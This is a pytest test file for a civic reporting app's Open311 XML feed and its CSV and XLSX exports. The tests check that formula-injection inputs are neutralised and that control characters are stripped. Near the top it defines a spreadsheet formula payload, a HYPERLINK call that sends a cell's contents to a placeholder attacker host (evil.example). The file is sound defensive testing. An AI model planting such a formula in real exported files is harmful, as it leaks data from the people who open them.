"""Exports other programs open (issue 14): CSV and XLSX cells never start a formula, and the Open311 XML feed stays
parsable whatever a report holds. Reports go in through the real Open311 POST; files come out of the real CLI."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from xml.etree import ElementTree as ET

import pandas as pd
import psycopg
import pytest
from flask.testing import FlaskClient
from openpyxl import load_workbook
from psycopg_pool import ConnectionPool

from dashboards.app import create_app
from ioc import safetext
from ioc.config import Settings
from ioc.security import keys
from smartward.cli import main

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Xem ảnh")'
CONTROL = "Cống tắc\x01 nước\x0b tràn ra đường"


@pytest.fixture
def client(settings: Settings, pool: ConnectionPool, db: psycopg.Connection) -> FlaskClient:
    return create_app(settings, pool).server.test_client()


def _submit(client: FlaskClient, db: psycopg.Connection, description: str) -> str:
    db.execute("""INSERT INTO wards (code, name, province, geom, valid_from, source)
                  VALUES ('22333', 'Phường Nha Trang', 'Tỉnh Khánh Hòa',
                          ST_Multi(ST_MakeEnvelope(109.18, 12.24, 109.2, 12.26, 4326)), '2025-07-01', 'test')
                  ON CONFLICT DO NOTHING""")
    lon, lat = 109.19, 12.25
    key = keys.add(db, "export-test", "test", ("reports:submit",))[1]
    resp = client.post("/open311/v2/requests.json", data={
        "api_key": key, "service_code": "flooding", "lat": str(lat), "long": str(lon), "description": description,
        "description_public": "true"})   # the reporter agreed to publish it (only then is it exported)
    assert resp.status_code in (200, 201), resp.data[:300]
    return str(resp.get_json()[0]["service_request_id"])


def test_the_xml_feed_parses_with_control_characters_in_a_report(client: FlaskClient, db: psycopg.Connection) -> None:
    rid = _submit(client, db, CONTROL)
    for url in ("/open311/v2/requests.xml", f"/open311/v2/requests/{rid}.xml"):
        resp = client.get(url)
        assert resp.status_code == 200
        root = ET.fromstring(resp.data)   # expat: a real XML 1.0 parser
        found = [r.findtext("description") for r in root.iter("request")]
        assert "Cống tắc nước tràn ra đường" in found, found


def test_csv_export_neutralises_formulas_and_keeps_numbers(client: FlaskClient, db: psycopg.Connection,
                                                           settings: Settings, tmp_path: Path) -> None:
    rid = _submit(client, db, EVIL)
    out = tmp_path / "reports.csv"
    assert main(["--database-url", str(settings.database_url), "reports", "export", str(out)]) == 0
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig")))}
    row = rows[rid]
    assert row["description"] == "'" + EVIL   # shown as text, still readable
    assert float(row["lon"]) > 100 and not row["lat"].startswith("'")


def test_spreadsheet_cells_in_xlsx_are_text_and_numbers_stay_numbers(tmp_path: Path) -> None:
    found = pd.DataFrame({"ward": [EVIL, "+84 90", "-5", "@SUM(A1)", "\tcmd", "Lộc Thọ", CONTROL],
                          "change": [-5, 3, -1, 0, 2, 1, -7], "ratio": [-0.5, 1.0, None, 2.5, 0.0, 1.5, -1.0]})
    path = tmp_path / "x.xlsx"
    safetext.frame(found).to_excel(path, index=False)   # openpyxl refuses \x01 without the filter
    ws = load_workbook(path).active
    assert ws is not None
    cells = list(ws.iter_rows(min_row=2, values_only=True))
    assert [c[0] for c in cells] == ["'" + EVIL, "'+84 90", "'-5", "'@SUM(A1)", "'\tcmd", "Lộc Thọ",
                                     "Cống tắc nước tràn ra đường"]
    assert [c[1] for c in cells] == [-5, 3, -1, 0, 2, 1, -7]
    assert cells[0][2] == -0.5 and cells[2][2] is None


def test_xml_text_keeps_what_xml_allows() -> None:
    allowed = "a\tb\nc\rd Đ 😀 \ue000\ufffd"
    assert safetext.xml_text(allowed) == allowed
    assert safetext.xml_text("\x00\x01\x08\x0b\x0c\x1f\ud800\ufffe\uffff") == ""
    assert safetext.cell(-5) == -5 and safetext.cell(None) is None and safetext.cell("5-3") == "5-3"


def test_the_kpi_workbook_holds_no_formula_from_imported_names() -> None:
    """The KPI XLSX export (pipelines.kpis.export): ward names come from imported sheets."""
    from pipelines.kpis import periods
    from pipelines.kpis.compute import KpiInputs, compute
    from pipelines.kpis.export import workbook
    from tests.kpis.support import TZ, dossier, frame, local

    wards = pd.DataFrame({"code": ["25210"], "name": [EVIL + "\x01"], "province": ["@Tỉnh"]})
    inputs = KpiInputs(frame([dossier(dossier_id="d1")]),
                       pd.DataFrame(columns=["unit", "ward_code", "old_city", "old_ward", "month"]),
                       pd.DataFrame(columns=["indicator", "unit", "scope", "period", "period_start", "period_end",
                                             "value"]),
                       pd.DataFrame(columns=["code", "name", "field", "level", "online_service", "fee_bearing",
                                             "paper_result"]),
                       pd.DataFrame(columns=["old_city", "old_ward", "new_ward_code", "weight"]), wards)
    comp = compute(inputs, periods.parse("2025-01"), local("2025-03-01 00:00"), TZ)
    book = load_workbook(io.BytesIO(workbook(comp, None, "online_submission", "vi")))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert "'" + EVIL in texts and "'@Tỉnh" in texts
    assert any(isinstance(c.value, (int, float)) for c in cells)   # the numbers are still numbers
